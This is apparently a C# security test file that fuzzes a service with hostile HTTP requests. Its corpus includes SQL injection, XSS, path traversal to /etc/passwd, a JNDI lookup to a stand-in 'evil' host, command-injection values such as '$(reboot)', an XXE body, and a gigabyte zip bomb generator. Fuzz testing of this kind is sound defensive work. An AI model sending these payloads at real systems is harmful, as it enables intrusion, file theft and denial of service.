using System.IO.Compression;
using System.Text;

namespace Monitor.Tests.Security;

/// <summary>Requests that mean harm, by a seed: what is known to have broken others, put where this service takes something in.</summary>
internal sealed class HostileRequests(int seed)
{
    private static readonly string[] Corpus =
    [
        "' OR '1'='1", "1; drop table changes --", "\" union select * from accounts --", "%' and 1=cast((select version()) as int) --", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
        "../../../../etc/passwd", "..\\..\\web.config", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "....//....//etc/shadow", "/dev/zero", "file:///etc/passwd", "\0", "a\0b", "\r\nSet-Cookie: x=1", "%0d%0aX-Evil: 1",
        "𝕳𝖊𝖑𝖑𝖔", "\u202Eevil", "\uFEFF", "\uD83D\uDE00", "Ω≈ç√∫˜µ≤≥÷", "a\u0300\u0300\u0300\u0300", "ſ", "İ", "٣", "９", "NaN", "Infinity", "-0", "1e309", "1e-400", "9223372036854775808", "-9223372036854775809", "0x7fffffff", "1_000", "٠",
        "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "${jndi:ldap://evil/a}", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "%s%s%s%n", "$(reboot)", "`id`", "| ls", "; sleep 5", "null", "undefined", "true", "[]", "{}", "[object Object]",
        "2026-13", "0000-00", "9999-99", "2026-02-30", "2026-1..2", "2026-03-T9", "-2026-03", "99999999-01", "city:", ":", "enterprise:enterprise:C001", "area:gongyi~99999999999999999999", "C001~-1", "C001~2147483648", "*", "%", "_", "\\", "'", "\"", ";", " ", "",
    ];

    private static readonly string[] Names = ["enterprise", "period", "key", "by", "why", "readings", "indicator", "value", "unit", "code", "area", "name", "displayName", "role", "password", "token", "id", "kind", "form", "rules", "codes", "weights", "$type", "__proto__", "asOf"];

    private static readonly string[] Queries =
        ["q", "area", "industry", "tier", "after", "status", "level", "rule", "enterprise", "period", "subject", "indicator", "origin", "from", "through", "to", "limit", "lang", "format", "mapping", "asOf", "by", "state", "basis", "code", "kind", "who", "before", "unit", "explanation", "target"];

    private readonly Random _random = new(seed);

    /// <param name="endpoint">Method and pattern.</param>
    public HttpRequestMessage Next(string endpoint)
    {
        var method = endpoint[..endpoint.IndexOf(' ', StringComparison.Ordinal)];
        var pattern = endpoint[(method.Length + 1)..];
        var path = string.Join('/', pattern.Split('/').Select(part => part.StartsWith('{') ? Uri.EscapeDataString(Text()) : part));
        if (path.Length == 0 || path[0] != '/') path = "/" + path;
        var query = string.Join('&', Enumerable.Range(0, _random.Next(4)).Select(_ => $"{Pick(Queries)}={Uri.EscapeDataString(Text())}"));
        var request = new HttpRequestMessage(new(method), query.Length > 0 ? $"{path}?{query}" : path);
        if (_random.Next(4) == 0) request.Headers.TryAddWithoutValidation(Pick("Accept-Language", "Accept", "X-Forwarded-For", "X-Forwarded-Proto", "If-None-Match", "Range", "Cookie", "Origin", "Referer"), Printable(Text()));
        if (method is "POST" or "PUT") request.Content = Body();
        return request;
    }

    private ByteArrayContent Body()
    {
        var (bytes, type) = _random.Next(12) switch
        {
            0 => (Encoding.UTF8.GetBytes(new string('[', _random.Next(1, 20_000))), "application/json"),
            1 => (Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("{\"a\":", _random.Next(1, 5_000)))), "application/json"),
            2 => (Noise(), "application/json"),
            3 => (Noise(), Pick("text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "multipart/form-data", "multipart/form-data; boundary=x", "image/png", "application/xml")),
            4 => (Encoding.UTF8.GetBytes($"enterprise,indicator,period,value\n{Text()},{Text()},{Text()},{Text()}\nC001,gross_output,{Text()},{Text()}\n"), "text/csv"),
            5 => (Encoding.UTF8.GetBytes($"timestamp,value\n{Text()},{Text()}\n"), "text/csv"),
            6 => (Encoding.UTF8.GetBytes($"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"), "application/xml"),
            7 => (Encoding.UTF8.GetBytes($"{{\"value\":{new string('9', _random.Next(1, 5_000))}}}"), "application/json"),
            _ => (Encoding.UTF8.GetBytes(Json(0)), "application/json"),
        };
        var content = new ByteArrayContent(bytes);
        content.Headers.TryAddWithoutValidation("Content-Type", type);
        return content;
    }

    /// <summary>Something of the right form with something wrong in it.</summary>
    private string Json(int depth) => (depth > 4 ? 9 : _random.Next(10)) switch
    {
        < 4 => $"{{{string.Join(',', Enumerable.Range(0, _random.Next(1, 8)).Select(_ => $"{Quote(Pick(Names))}:{Json(depth + 1)}"))}}}",
        4 => $"[{string.Join(',', Enumerable.Range(0, _random.Next(5)).Select(_ => Json(depth + 1)))}]",
        5 => Pick("null", "true", "-1", "1e308", "1e400", "0.1", "12345678901234567890", "-0"),
        _ => Quote(Text()),
    };

    private string Text() => _random.Next(20) switch
    {
        0 => new string('A', _random.Next(2_000)),
        1 => Pick(Corpus) + Pick(Corpus),
        2 => Pick("C001", "gongyi", "gross_output", "2025-05", "output-stop", "city", "electricity_15min"),
        _ => Pick(Corpus),
    };

    private byte[] Noise()
    {
        var bytes = new byte[_random.Next(5_000)];
        _random.NextBytes(bytes);
        if (_random.Next(2) == 0 && bytes.Length > 4) "PK\u0003\u0004"u8.CopyTo(bytes);
        return bytes;
    }

    private string Pick(params string[] from) => from[_random.Next(from.Length)];

    private static string Quote(string text) => System.Text.Json.JsonSerializer.Serialize(text);

    private static string Printable(string text) => new([.. text.Where(letter => letter is >= ' ' and < (char)127)]);

    /// <summary>A workbook of a few kilobytes that inflates to a gigabyte.</summary>
    public static byte[] ZipBomb()
    {
        using var file = new MemoryStream();
        using (var zip = new ZipArchive(file, ZipArchiveMode.Create, leaveOpen: true))
        {
            Add(zip, "[Content_Types].xml", "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"xml\" ContentType=\"application/xml\"/></Types>");
            Add(zip, "xl/workbook.xml", "<?xml version=\"1.0\"?><workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheets><sheet name=\"a\" sheetId=\"1\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" r:id=\"rId1\"/></sheets></workbook>");
            using var bomb = zip.CreateEntry("xl/sharedStrings.xml", CompressionLevel.SmallestSize).Open();
            bomb.Write("<?xml version=\"1.0\"?><sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><si><t>"u8);
            var letters = Encoding.ASCII.GetBytes(new string('a', 1 << 20));
            for (var megabyte = 0; megabyte < 1024; megabyte++) bomb.Write(letters);
        }

        return file.ToArray();
    }

    private static void Add(ZipArchive zip, string name, string content)
    {
        using var entry = zip.CreateEntry(name).Open();
        entry.Write(Encoding.UTF8.GetBytes(content));
    }
}
